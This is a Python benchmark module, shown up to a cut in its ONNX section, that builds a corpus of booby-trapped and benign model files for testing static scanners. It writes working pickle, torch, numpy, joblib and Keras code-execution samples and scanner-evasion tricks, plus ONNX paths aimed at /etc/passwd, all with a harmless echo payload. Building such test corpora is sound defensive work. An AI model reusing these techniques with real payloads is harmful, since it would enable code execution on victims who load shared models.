"""The static-scanner efficacy corpus: malicious, evasive and benign model files.

Run from the repository root with the project's virtualenv::

    .venv/bin/python -m benchmarks.scan_corpus OUT_DIR          # build and prove
    .venv/bin/python -m benchmarks.scan_corpus OUT_DIR --big    # + a >= 500 MB checkpoint

It writes ``OUT_DIR/malicious/``, ``OUT_DIR/benign/``, ``OUT_DIR/big/`` (with
``--big``; reused when present) and ``OUT_DIR/manifest.json``, which lists every
file with its technique and how it was proven. With the same library versions
the same bytes are written on every run: timestamps are fixed (zip, tar, gzip,
7z, HDF5), models are seeded, and the legacy torch format's storage keys (memory
addresses) are renumbered.

Every malicious payload is harmless: it prints ``mbom-corpus-pwned`` (``echo``
through ``os.system``, ``subprocess``, ``eval`` ...). Nothing is assumed: after
writing, each code-execution sample is loaded with the real loader it targets
(``pickle.load``, ``torch.load(weights_only=False)``, ``numpy.load(allow_pickle=
True)``, ``joblib.load``, ...) in a throwaway subprocess in an empty temporary
directory, without network (``unshare -rn`` where available), and the marker
must appear on its output; every benign file is loaded with its *safe* loader
(``torch.load(weights_only=True)``, ``safetensors``, ``json``, ...). Keras and
TensorFlow are not installed here, so Keras Lambda samples are proven by doing
exactly what Keras does with a Lambda config (base64 -> ``marshal.loads`` ->
``types.FunctionType`` -> call). Evasive samples that carry no code (ONNX paths
escaping the model directory, corrupt safetensors headers) are proven by a
structural check of the property, and by the reference library refusing them.

The techniques (``targets`` says which public scanner it aims at and why; the
measured result is the table printed by ``benchmarks.scan_bench``):

==============================  =============================================================
sample                          technique
==============================  =============================================================
m01-reduce-p0.pkl               GLOBAL ``os system`` + REDUCE, protocol 0 (text opcodes)
m02-reduce-p2.pkl               the same, protocol 2
m03-reduce-p4.pkl               STACK_GLOBAL with SHORT_BINUNICODE names inside a FRAME, proto 4
m04-reduce-p5.pkl               the same, protocol 5
m05-posix-system.pkl            ``posix.system``: what ``pickle.dumps(os.system)`` writes on Linux
m06-subprocess-popen.pkl        ``subprocess.Popen(("echo", ...))``
m07-subprocess-check-output.pkl ``subprocess.check_output(("sh", "-c", ...))``
m08-builtins-eval.pkl           ``builtins.eval`` of a source string
m09-builtins-exec.pkl           ``builtins.exec`` of a source string
m10-getattr-chain.pkl           ``getattr(__import__("os"), "system")(...)``: only builtins
m11-import-methodcaller.pkl     ``__builtin__.__import__`` (py2 name) + ``_operator.methodcaller``
m12-attrgetter-posixpath-os.pkl ``operator.attrgetter("system")`` on ``posixpath.os`` (no "os")
m13-dotted-pathlib-os.pkl       STACK_GLOBAL ``pathlib`` + ``os.system``: dotted name, proto 4
m14-importlib.pkl               ``importlib.import_module("os")`` + ``methodcaller``
m15-pkgutil-resolve-name.pkl    ``pkgutil.resolve_name("os:system")``
m16-stack-global-memo.pkl       STACK_GLOBAL whose names come back from the memo (BINGET)
m17-memo-copy.pkl               names copied memo -> stack -> memo before STACK_GLOBAL
m18-binunicode8-names.pkl       STACK_GLOBAL names pushed with BINUNICODE8
m19-short-binstring-names.pkl   STACK_GLOBAL names pushed with SHORT_BINSTRING (legacy str)
m20-inst-opcode.pkl             INST ``os system``: import + call in one opcode, no REDUCE
m21-obj-opcode.pkl              OBJ with ``os.system`` as the "class": a call, no REDUCE
m22-newobj-functiontype.pkl     ``marshal.loads`` code + NEWOBJ ``types.FunctionType`` + call
m23-reduce-functiontype.pkl     ``marshal.loads`` code + REDUCE ``types.FunctionType`` + call
m24-newobj-ex-functiontype.pkl  the same through NEWOBJ_EX (protocol 4)
m25-build-setstate.pkl          BUILD sets ``__setstate__ = os.system``, a 2nd BUILD calls it
m26-runpy-run-code.pkl          ``runpy._run_code`` of a source string
m27-code-interpreter.pkl        ``code.InteractiveInterpreter.runsource`` (dotted, proto 4)
m28-cprofile-run.pkl            ``cProfile.run`` of a source string
m29-profile-run.pkl             ``profile.run`` of a source string
m30-timeit.pkl                  ``timeit.timeit(stmt, "pass", time.perf_counter, 1)``
m31-pdb-scripted.pkl            ``pdb.Pdb.run`` with a scripted stdin (``continue``)
m32-functools-partial.pkl       ``functools.partial(os.system, ...)`` then called
m33-nested-torch-load.pt        torch zip whose pickle calls ``torch.serialization.load`` on
                                an embedded byte string holding the real payload
m34-nested-numpy-load.pkl       ``numpy.load(BytesIO(npy), None, True)``: an object-array .npy
                                hidden in a bytes constant
m35-stacked.pkl                 two pickles: benign first, malicious second
m36-truncated.pkl               REDUCE then end of file, no STOP (nullifAI)
m37-broken-opcode.pkl           REDUCE then an invalid opcode (nullifAI)
m38-frame-too-short.pkl         FRAME length 2 for a longer body: the C unpickler still runs it
m39-torch-save.pt               ``torch.save`` of an object whose ``__reduce__`` is the payload
m40-torch-odd-prefix.pt         torch zip whose archive folder is ``model.safetensors``
m41-torch-bad-crc.pt            torch zip, data.pkl with a wrong CRC-32 (torch ignores it)
m42-torch-name-mismatch.pt      local header name differs from the central directory's
m43-torch-duplicate-member.pt   two ``data.pkl``: torch reads the 1st (malicious), Python's
                                ``zipfile.open(name)`` the last (benign)
m44-torch-flag-bits.pt          local header flags say encrypted/strong-encryption, central
                                directory has a reserved bit: torch loads it anyway
m45-torch-deflate.pt            data.pkl deflate-compressed (torch writes stored)
m46-torch-broken-pickle.pt      torch zip whose data.pkl breaks right after the REDUCE
m47-zip-in-zip.zip              a malicious torch zip inside a plain zip
m48-torch-legacy-5th.pt         legacy (non-zip) torch file; the 5th pickle (storage keys)
                                runs the payload and returns the real keys
m49-torch-legacy-tar.pt         legacy tar torch format: payload in the ``storages`` member
m50-object-array.npy            .npy object array whose pickle is the payload
m51-object-member.npz           .npz with one numeric and one malicious object member
m52-npy-as-weights.bin          the .npy of m50 named ``.bin`` (np.load goes by magic)
m53-joblib-dump.joblib          ``joblib.dump`` of an object with the payload ``__reduce__``
m54-joblib-zlib.joblib          the same, ``compress=3`` (zlib container)
m55-joblib-lzma.pkl.xz          the same, lzma container, ``.xz`` name
m56-gzip-pickle.pkl.gz          a gzip-wrapped pickle (``joblib.load`` gunzips by magic)
m57-tar-pickle.tar              a tar holding ``model.pkl``
m58-7z-torch.7z                 a 7z holding ``pytorch_model.bin`` (a malicious torch zip)
m59-keras-lambda.keras          Keras 3 archive, top-level Lambda layer (marshalled code)
m60-keras-lambda-nested.keras   Lambda inside TimeDistributed inside a nested Sequential
m61-keras-lambda.h5             Keras 2 HDF5, Lambda in ``model_config``
m62-keras-lambda-nested.h5      Keras 2 HDF5, Lambda inside a nested Sequential
m63-onnx-traversal.onnx         ONNX initializer stored at ``../../etc/passwd``
m64-onnx-absolute.onnx          ONNX initializer stored at ``/etc/passwd``
m65-st-overlap.safetensors      safetensors: two tensors share bytes (overlapping offsets)
m66-st-out-of-bounds.safetensors  safetensors: offsets past the end of the file
m67-st-huge-header.safetensors  safetensors: header length 2**62 (memory exhaustion)
m68-pickle-as.txt               a pickle named ``notes.txt``
m69-pickle-as-config.json       a pickle named ``.json``
m70-pickle-no-extension         a pickle with no extension
==============================  =============================================================

Benign files (``b*``) are real outputs of the libraries: ``torch.save`` state dicts
(zip, legacy, protocol 4, fp16, qint8), full checkpoints with metadata (epoch,
``torch.Size``, ``nn.Parameter``, bfloat16, OrderedDict, nested dicts, Adam
state), NumPy .npy/.npz, safetensors, a ``torch.export`` .pt2 archive, an ONNX
model (inline and with external data beside it), a Keras 3 .keras and a Keras 2
.h5 with Dense layers only, a joblib dump of NumPy arrays, config.json,
tokenizer.json and a README.md model card.
"""

from __future__ import annotations

import argparse
import codecs
import glob
import gzip
import hashlib
import io
import json
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MARKER = "mbom-corpus-pwned"
PAYLOAD = f"echo {MARKER}"
PY_PAYLOAD = f"__import__('os').system('{PAYLOAD}')"
ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)
BIG_NAME = "big-checkpoint.pt"
BIG_TENSOR_MIB = 128
BIG_TENSORS = 4  # 512 MiB of float32: >= 500 MB
LOAD_TIMEOUT_S = 120


@dataclass(frozen=True)
class Sample:
    """One corpus file: how to make it, what it does, and how it is proven."""

    name: str
    kind: str  # "malicious" (runs code when loaded), "evasive" (hostile, no code) or "benign"
    technique: str  # what the file does
    targets: str  # which public scanner it aims at, and why (empty for benign files)
    make: Callable[[], bytes]
    proof: str  # a LOADERS key (run in a subprocess) or a STRUCTURAL key (checked here)


# ---------------------------------------------------------------------------
# Pickle assembly: every opcode written by hand, so each sample is exactly the
# technique it documents and does not depend on what pickle.dumps chooses.
# ---------------------------------------------------------------------------

MARK, STOP, POP, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"t", b"R", b"b"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, NONE, SETITEM = b")", b"}", b"]", b"N", b"s"
TUPLE1, TUPLE2, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE = (
    b"\x85",
    b"\x86",
    b"\x81",
    b"\x92",
    b"\x93",
    b"\x94",
)
OBJ, NEWTRUE = b"o", b"\x88"


def _str(text: str) -> bytes:
    """BINUNICODE: a str with a 4-byte length (protocols 1+)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _short_str(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _str8(text: str) -> bytes:
    """BINUNICODE8: a str with an 8-byte length (protocol 4)."""
    raw = text.encode()
    return b"\x8d" + struct.pack("<Q", len(raw)) + raw


def _short_binstring(text: str) -> bytes:
    """SHORT_BINSTRING: a protocol-1 8-bit string, decoded to str by Python 3."""
    raw = text.encode("ascii")
    return b"U" + bytes([len(raw)]) + raw


def _bytes(data: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(data)) + data


def _global(module: str, name: str) -> bytes:
    """GLOBAL: module and name as text lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both names pushed as SHORT_BINUNICODE."""
    return _short_str(module) + MEMOIZE + _short_str(name) + MEMOIZE + STACK_GLOBAL


def _binget(index: int) -> bytes:
    return b"h" + bytes([index])


def _call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with MARK ... TUPLE REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def _p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + STOP


def _framed(body: bytes, proto: int = 4, frame_len: int | None = None) -> bytes:
    """A protocol 4/5 pickle in one FRAME (whose declared length may lie)."""
    framed = body + STOP
    length = len(framed) if frame_len is None else frame_len
    return b"\x80" + bytes([proto]) + b"\x95" + struct.pack("<Q", length) + framed


def _os_system_call() -> bytes:
    return _call(_global("os", "system"), _str(PAYLOAD))


def _payload_pickle() -> bytes:
    """The plainest malicious pickle: protocol 2 ``os.system(PAYLOAD)``."""
    return _p2(_os_system_call())


def _payload_code() -> bytes:
    """A marshalled code object (no arguments) that runs the payload.

    Compiled from source with a fixed file name so the bytes do not depend on
    where the repository is checked out.
    """
    module = compile(f"def f(*args):\n    {PY_PAYLOAD}\n", "<mbom-corpus>", "exec")
    function_code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return marshal.dumps(function_code)


class _Payload:
    """An object whose pickle calls ``os.system(PAYLOAD)`` when loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (PAYLOAD,))


# --- the pickle opcode techniques -------------------------------------------------------


def _m01() -> bytes:
    return b"cos\nsystem\n(V" + PAYLOAD.encode() + b"\ntR."


def _m02() -> bytes:
    return _payload_pickle()


def _m03(proto: int = 4) -> bytes:
    body = _stack_global("os", "system") + MEMOIZE + _short_str(PAYLOAD) + MEMOIZE
    return _framed(body + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE, proto)


def _m04() -> bytes:
    return _m03(proto=5)


def _m05() -> bytes:
    return _p2(_call(_global("posix", "system"), _str(PAYLOAD)))


def _m06() -> bytes:
    argv = MARK + _str("echo") + _str(MARKER) + TUPLE
    return _p2(_call(_global("subprocess", "Popen"), argv))


def _m07() -> bytes:
    argv = MARK + _str("sh") + _str("-c") + _str(f"{PAYLOAD} 1>&2") + TUPLE
    return _p2(_call(_global("subprocess", "check_output"), argv))


def _m08() -> bytes:
    return _p2(_call(_global("builtins", "eval"), _str(PY_PAYLOAD)))


def _m09() -> bytes:
    return _p2(_call(_global("builtins", "exec"), _str(f"import os\nos.system('{PAYLOAD}')")))


def _m10() -> bytes:
    os_module = _call(_global("builtins", "__import__"), _str("os"))
    system = _call(_global("builtins", "getattr"), os_module, _str("system"))
    return _p2(_call(system, _str(PAYLOAD)))


def _m11() -> bytes:
    caller = _call(_global("_operator", "methodcaller"), _str("system"), _str(PAYLOAD))
    return _p2(_call(caller, _call(_global("__builtin__", "__import__"), _str("os"))))


def _m12() -> bytes:
    getter = _call(_global("operator", "attrgetter"), _str("system"))
    system = _call(getter, _global("posixpath", "os"))
    return _p2(_call(system, _str(PAYLOAD)))


def _m13() -> bytes:
    body = _stack_global("pathlib", "os.system") + _short_str(PAYLOAD) + TUPLE1 + REDUCE
    return _framed(body)


def _m14() -> bytes:
    caller = _call(_global("operator", "methodcaller"), _str("system"), _str(PAYLOAD))
    return _p2(_call(caller, _call(_global("importlib", "import_module"), _str("os"))))


def _m15() -> bytes:
    system = _call(_global("pkgutil", "resolve_name"), _str("os:system"))
    return _p2(_call(system, _str(PAYLOAD)))


def _m16() -> bytes:
    # Push both names, memoize them, drop them, then fetch them back for STACK_GLOBAL.
    names = _short_str("os") + MEMOIZE + POP + _short_str("system") + MEMOIZE + POP
    body = names + _binget(0) + _binget(1) + STACK_GLOBAL + _short_str(PAYLOAD) + TUPLE1 + REDUCE
    return _framed(body)


def _m17() -> bytes:
    # memo 0 = "os", memo 1 = copy of memo 0 (via the stack), same for "system" (2 -> 3).
    names = (
        _short_str("os") + MEMOIZE + POP + _binget(0) + MEMOIZE + POP
        + _short_str("system") + MEMOIZE + POP + _binget(2) + MEMOIZE + POP
    )  # fmt: skip
    body = names + _binget(1) + _binget(3) + STACK_GLOBAL + _short_str(PAYLOAD) + TUPLE1 + REDUCE
    return _framed(body)


def _m18() -> bytes:
    body = _str8("os") + _str8("system") + STACK_GLOBAL + _str8(PAYLOAD) + TUPLE1 + REDUCE
    return _framed(body)


def _m19() -> bytes:
    names = _short_binstring("os") + _short_binstring("system") + STACK_GLOBAL
    return _framed(names + _short_binstring(PAYLOAD) + TUPLE1 + REDUCE)


def _m20() -> bytes:
    return b"(V" + PAYLOAD.encode() + b"\nios\nsystem\n."


def _m21() -> bytes:
    return _p2(MARK + _global("os", "system") + _str(PAYLOAD) + OBJ)


def _code_object() -> bytes:
    return _call(_global("marshal", "loads"), _bytes(_payload_code()))


def _m22() -> bytes:
    function = _global("types", "FunctionType") + MARK + _code_object() + EMPTY_DICT + TUPLE
    return b"\x80\x03" + function + NEWOBJ + EMPTY_TUPLE + REDUCE + STOP


def _m23() -> bytes:
    function = _call(_global("types", "FunctionType"), _code_object(), EMPTY_DICT)
    return b"\x80\x03" + function + EMPTY_TUPLE + REDUCE + STOP


def _m24() -> bytes:
    args = MARK + _code_object() + EMPTY_DICT + TUPLE
    function = _stack_global("types", "FunctionType") + args + EMPTY_DICT + NEWOBJ_EX
    return _framed(function + EMPTY_TUPLE + REDUCE)


def _m25() -> bytes:
    instance = _global("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ
    slot_state = EMPTY_DICT + _str("__setstate__") + _global("os", "system") + SETITEM
    return _p2(instance + NONE + slot_state + TUPLE2 + BUILD + _str(PAYLOAD) + BUILD)


def _m26() -> bytes:
    source = f"import os\nos.system('{PAYLOAD}')"
    return _p2(_call(_global("runpy", "_run_code"), _str(source), EMPTY_DICT))


def _m27() -> bytes:
    interpreter = _call(_stack_global("code", "InteractiveInterpreter"))
    runsource = _stack_global("code", "InteractiveInterpreter.runsource")
    return _framed(_call(runsource, interpreter, _short_str(PY_PAYLOAD)))


def _m28() -> bytes:
    return _p2(_call(_global("cProfile", "run"), _str(PY_PAYLOAD)))


def _m29() -> bytes:
    return _p2(_call(_global("profile", "run"), _str(PY_PAYLOAD)))


def _m30() -> bytes:
    args = (_str(PY_PAYLOAD), _str("pass"), _global("time", "perf_counter"), b"K\x01")
    return _p2(_call(_global("timeit", "timeit"), *args))


def _m31() -> bytes:
    script = _call(_global("io", "StringIO"), _str("continue\n"))
    debugger = _call(_global("pdb", "Pdb"), _str("tab"), script, _call(_global("io", "StringIO")))
    run = _stack_global("pdb", "Pdb.run")
    return _framed(_call(run, debugger, _short_str(PY_PAYLOAD)))


def _m32() -> bytes:
    partial = _call(_global("functools", "partial"), _global("os", "system"), _str(PAYLOAD))
    return _p2(partial + EMPTY_TUPLE + REDUCE)


def _m33() -> bytes:
    stream = _call(_global("io", "BytesIO"), _bytes(_payload_pickle()))
    pickle_module = _global("torch.serialization", "pickle")
    load = _call(_global("torch.serialization", "load"), stream, NONE, pickle_module)
    return _torch_zip(b"\x80\x03" + load + STOP)


def _npy_object_array() -> bytes:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = _Payload()
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _m34() -> bytes:
    stream = _call(_global("io", "BytesIO"), _bytes(_npy_object_array()))
    return b"\x80\x03" + _call(_global("numpy", "load"), stream, NONE, NEWTRUE) + STOP


def _m35() -> bytes:
    benign = pickle.dumps({"format": "mbom-demo", "layers": [16, 16, 10]}, protocol=2)
    return benign + _payload_pickle()


def _m36() -> bytes:
    return b"\x80\x02" + _os_system_call()


def _m37() -> bytes:
    return b"\x80\x02" + _os_system_call() + b"\xff\xfe mbom corpus garbage"


def _m38() -> bytes:
    return _framed(_os_system_call(), frame_len=2)


# ---------------------------------------------------------------------------
# Zip and container assembly
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class ZipMember:
    """One zip entry, with every header field a trick may want to falsify."""

    name: str
    data: bytes
    deflate: bool = False
    crc: int | None = None  # None: the real CRC-32
    local_name: str | None = None  # None: the same as the central directory's
    local_flags: int = 0
    central_flags: int = 0


def _build_zip(members: list[ZipMember]) -> bytes:
    """A zip written field by field (zipfile refuses to write the broken ones)."""
    out = io.BytesIO()
    central = []
    for member in members:
        method = 8 if member.deflate else 0
        stored = member.data
        if member.deflate:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            stored = compressor.compress(member.data) + compressor.flush()
        crc = zlib.crc32(member.data) if member.crc is None else member.crc
        central_name = member.name.encode()
        local_name = (member.local_name or member.name).encode()
        offset = out.tell()
        sizes = (crc, len(stored), len(member.data))
        out.write(struct.pack("<4sHHHHH", b"PK\x03\x04", 20, member.local_flags, method, 0, 0x21))
        out.write(struct.pack("<IIIHH", *sizes, len(local_name), 0) + local_name + stored)
        central.append(
            struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, member.central_flags, method, 0, 0x21)
            + struct.pack("<IIIHHHHHII", *sizes, len(central_name), 0, 0, 0, 0, 0, offset)
            + central_name
        )
    directory_offset = out.tell()
    out.write(b"".join(central))
    directory_size = out.tell() - directory_offset
    count = len(central)
    end = (b"PK\x05\x06", 0, 0, count, count, directory_size, directory_offset, 0)
    out.write(struct.pack("<4sHHHHIIH", *end))
    return out.getvalue()


def _torch_zip(data_pkl: bytes, prefix: str = "archive", **pkl_options: Any) -> bytes:
    """A minimal PyTorch zip checkpoint whose data.pkl is ``data_pkl``."""
    return _build_zip(_torch_members(data_pkl, prefix, **pkl_options))


def _torch_members(data_pkl: bytes, prefix: str = "archive", **options: Any) -> list[ZipMember]:
    return [
        ZipMember(f"{prefix}/data.pkl", data_pkl, **options),
        ZipMember(f"{prefix}/byteorder", b"little"),
        ZipMember(f"{prefix}/version", b"3\n"),
    ]


def _plain_zip(entries: dict[str, bytes], *, deflate: bool = False) -> bytes:
    """A well-formed zip with fixed timestamps (zipfile, deterministic)."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=ZIP_EPOCH)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def _tar(entries: dict[str, bytes], *, pax: bool = False) -> bytes:
    buffer = io.BytesIO()
    tar_format = tarfile.PAX_FORMAT if pax else tarfile.USTAR_FORMAT
    with tarfile.open(fileobj=buffer, mode="w", format=tar_format) as archive:
        for name, data in entries.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _torch_save(obj: Any, **options: Any) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer, **options)
    data = buffer.getvalue()
    if options.get("_use_new_zipfile_serialization", True):
        return data
    return _renumber_legacy_keys(data)


def _renumber_legacy_keys(data: bytes) -> bytes:
    """Make a legacy torch file reproducible: its storage keys are memory addresses.

    Keys become 000000, 000001... in order of first use; the key list (the 5th
    pickle) and the raw storages after it (each an int64 element count then the
    bytes, in key-list order) are rewritten in that order.
    """

    spans = _legacy_pickle_spans(data)
    used: dict[str, int] = {}  # key -> element size, in order of first use

    class _Keys(pickle.Unpickler):  # our own torch.save output: safe to unpickle
        def persistent_load(self, pid: Any) -> Any:
            _, storage_type, key, _, numel = pid[:5]  # (+ view metadata, legacy)
            used.setdefault(key, storage_type.dtype.itemsize)
            return storage_type(numel)

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        _Keys(io.BytesIO(data[spans[3][0] : spans[3][1]])).load()
    new_key = {key: f"{rank:06d}" for rank, key in enumerate(used)}
    chunks, offset = {}, spans[4][1]
    for key in sorted(used):
        (count,) = struct.unpack_from("<q", data, offset)
        end = offset + 8 + count * used[key]
        chunks[new_key[key]], offset = data[offset:end], end
    head = data[: spans[4][0]]
    for key, renamed in new_key.items():
        head = head.replace(_str(key), _str(renamed))
    keys = pickle.dumps(sorted(chunks), protocol=2)  # the loader reads storages in this order
    return head + keys + b"".join(chunks[k] for k in sorted(chunks)) + data[offset:]


def _m39() -> bytes:
    return _torch_save({"state_dict": {}, "hook": _Payload()})


def _m40() -> bytes:
    return _torch_zip(_payload_pickle(), prefix="model.safetensors")


def _m41() -> bytes:
    return _torch_zip(_payload_pickle(), crc=0xDEADBEEF)


def _m42() -> bytes:
    return _torch_zip(_payload_pickle(), local_name="archive/readme.txt")


def _m43() -> bytes:
    benign = pickle.dumps({"w": 0}, protocol=2)
    members = _torch_members(_payload_pickle())
    return _build_zip([*members, ZipMember("archive/data.pkl", benign)])


def _m44() -> bytes:
    return _torch_zip(_payload_pickle(), local_flags=0x41, central_flags=0x4000)


def _m45() -> bytes:
    return _torch_zip(_payload_pickle(), deflate=True)


def _m46() -> bytes:
    return _torch_zip(_m37())


def _m47() -> bytes:
    return _plain_zip({"model/README.md": b"# weights\n", "model/pytorch_model.pt": _m39()})


def _legacy_pickle_spans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of the pickles at the start of a legacy torch file."""
    import pickletools

    stream, spans = io.BytesIO(data), []
    for _ in range(5):
        start = stream.tell()
        for _op in pickletools.genops(stream):
            pass
        spans.append((start, stream.tell()))
    return spans


def _m48() -> bytes:
    import torch

    legacy = _torch_save({"w": torch.arange(4.0)}, _use_new_zipfile_serialization=False)
    start, end = _legacy_pickle_spans(legacy)[4]
    keys = legacy[start:end]
    if keys[:2] != b"\x80\x02" or keys[-1:] != STOP:
        raise ValueError("torch.save wrote an unexpected legacy layout")
    # Run the payload, drop its result, then build the real storage-key list.
    hostile = b"\x80\x02" + _os_system_call() + POP + keys[2:]
    return legacy[:start] + hostile + legacy[end:]


def _m49() -> bytes:
    # os.system returns 0: torch reads it as "0 storages", then the empty storage-view list.
    storages = _payload_pickle() + pickle.dumps([], protocol=2)
    tensors = pickle.dumps(0, protocol=2)
    entries = {"storages": storages, "tensors": tensors, "pickle": pickle.dumps({}, protocol=2)}
    return _tar(entries, pax=True)


def _m51() -> bytes:
    import numpy as np

    weights = io.BytesIO()
    np.save(weights, np.arange(8, dtype=np.float32))
    return _plain_zip({"weights.npy": weights.getvalue(), "meta.npy": _npy_object_array()})


def _joblib_dump(obj: Any, **options: Any) -> bytes:
    import joblib

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "dump.joblib"
        joblib.dump(obj, path, **options)
        return path.read_bytes()


def _m53() -> bytes:
    import numpy as np

    return _joblib_dump({"coef": np.ones(3), "pre": _Payload()})


def _m54() -> bytes:
    import numpy as np

    return _joblib_dump({"coef": np.ones(3), "pre": _Payload()}, compress=3)


def _m55() -> bytes:
    import numpy as np

    return _joblib_dump({"coef": np.ones(3), "pre": _Payload()}, compress=("lzma", 3))


def _m56() -> bytes:
    return gzip.compress(_payload_pickle(), mtime=0)


def _m57() -> bytes:
    return _tar({"model/config.json": b"{}\n", "model/model.pkl": _payload_pickle()})


def _m58() -> bytes:
    import py7zr

    with tempfile.TemporaryDirectory() as tmp:
        inner = Path(tmp) / "pytorch_model.bin"
        inner.write_bytes(_m39())
        os.utime(inner, (0, 0))  # 7z stores the file's times
        path = Path(tmp) / "model.7z"
        with py7zr.SevenZipFile(path, "w") as archive:
            archive.write(inner, "model/pytorch_model.bin")
        return path.read_bytes()


# --- Keras ----------------------------------------------------------------------------


def _lambda_code_b64() -> str:
    """A Lambda function body as Keras stores it: base64 of the marshalled code."""
    return codecs.encode(_payload_code(), "base64").decode("ascii")


def _keras3_layer(class_name: str, name: str, **config: Any) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": class_name,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
        "registered_name": None,
    }


def _keras3_lambda(name: str) -> dict[str, Any]:
    function = {
        "class_name": "__lambda__",
        "config": {"code": _lambda_code_b64(), "defaults": None, "closure": None},
    }
    return _keras3_layer("Lambda", name, function=function, arguments={})


def _keras3_dense(name: str, units: int) -> dict[str, Any]:
    return _keras3_layer("Dense", name, units=units, activation="relu", use_bias=True)


def _keras3_model(layers: list[dict[str, Any]]) -> dict[str, Any]:
    input_layer = _keras3_layer("InputLayer", "input_layer", batch_shape=[None, 4])
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [input_layer, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def _keras3_archive(model: dict[str, Any], weights: bytes | None = None) -> bytes:
    metadata = {"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}
    entries = {
        "metadata.json": json.dumps(metadata).encode(),
        "config.json": json.dumps(model, indent=1).encode(),
    }
    if weights is not None:
        entries["model.weights.h5"] = weights
    return _plain_zip(entries)


def _m59() -> bytes:
    return _keras3_archive(_keras3_model([_keras3_dense("dense", 8), _keras3_lambda("scale")]))


def _m60() -> bytes:
    wrapped = _keras3_layer("TimeDistributed", "per_step", layer=_keras3_lambda("scale"))
    inner = _keras3_model([wrapped])
    inner["config"]["name"] = "block"
    return _keras3_archive(_keras3_model([_keras3_dense("dense", 8), inner]))


def _keras2_layer(class_name: str, name: str, **config: Any) -> dict[str, Any]:
    return {
        "class_name": class_name,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
    }


def _keras2_lambda(name: str) -> dict[str, Any]:
    return _keras2_layer(
        "Lambda",
        name,
        function=[_lambda_code_b64(), None, None],
        function_type="lambda",
        module="__main__",
        output_shape=None,
        output_shape_type="raw",
        arguments={},
    )


def _keras2_sequential(name: str, layers: list[dict[str, Any]]) -> dict[str, Any]:
    first = _keras2_layer("InputLayer", f"{name}_input", batch_input_shape=[None, 4])
    return {"class_name": "Sequential", "config": {"name": name, "layers": [first, *layers]}}


def _h5_file(write: Callable[[Any], None]) -> bytes:
    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.h5"
        with h5py.File(path, "w", track_order=True) as handle:
            write(handle)
        return path.read_bytes()


def _keras2_h5(model: dict[str, Any], dense_weights: dict[str, tuple[int, int]]) -> bytes:
    import numpy as np

    def write(handle: Any) -> None:
        handle.attrs["keras_version"] = "2.15.0"
        handle.attrs["backend"] = "tensorflow"
        handle.attrs["model_config"] = json.dumps(model)
        group = handle.create_group("model_weights")
        group.attrs["layer_names"] = [name.encode() for name in dense_weights]
        for layer, (rows, cols) in dense_weights.items():
            layer_group = group.create_group(layer).create_group(layer)
            kernel = np.linspace(-1, 1, rows * cols, dtype=np.float32).reshape(rows, cols)
            layer_group.create_dataset("kernel:0", data=kernel, track_times=False)
            layer_group.create_dataset("bias:0", data=np.zeros(cols, np.float32), track_times=False)

    return _h5_file(write)


def _m61() -> bytes:
    dense = _keras2_layer("Dense", "dense", units=8, activation="relu")
    return _keras2_h5(
        _keras2_sequential("model", [dense, _keras2_lambda("scale")]), {"dense": (4, 8)}
    )


def _m62() -> bytes:
    dense = _keras2_layer("Dense", "dense", units=8, activation="relu")
    inner = _keras2_sequential("block", [_keras2_lambda("scale")])
    return _keras2_h5(_keras2_sequential("model", [dense, inner]), {"dense": (4, 8)})


# --- ONNX -----------------------------------------------------------------------------


def _onnx_model(location: str | None) -> bytes:
    """A one-node ONNX graph (Y = X + W); W inline, or external at ``location``."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.arange(4, dtype=np.float32), name="W")
    if location is not None:
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
